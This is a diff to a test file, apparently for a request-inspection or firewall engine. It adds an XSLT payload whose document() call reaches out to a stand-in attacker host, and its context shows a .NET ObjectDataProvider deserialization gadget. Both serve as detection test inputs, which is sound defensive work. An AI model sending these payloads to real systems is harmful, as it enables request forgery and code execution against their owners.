@@ -105,6 +105,16 @@ def test_hit_names_point_rule_and_fragment(engine: Engine) -> None:
         (
             Request(
                 "POST",
+                "/soap",
+                (("Content-Type", "text/xml"),),
+                b'<xsl:transform version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
+                b"<xsl:value-of select=\"document('http://evil.example/')\"/></xsl:transform>",
+            ),
+            "post.xml.xsl:transform.@xmlns:xsl",
+        ),
+        (
+            Request(
+                "POST",
                 "/api",
                 (("Content-Type", "application/json"),),
                 b'{"$type": "System.Windows.Data.ObjectDataProvider, PresentationFramework"}',
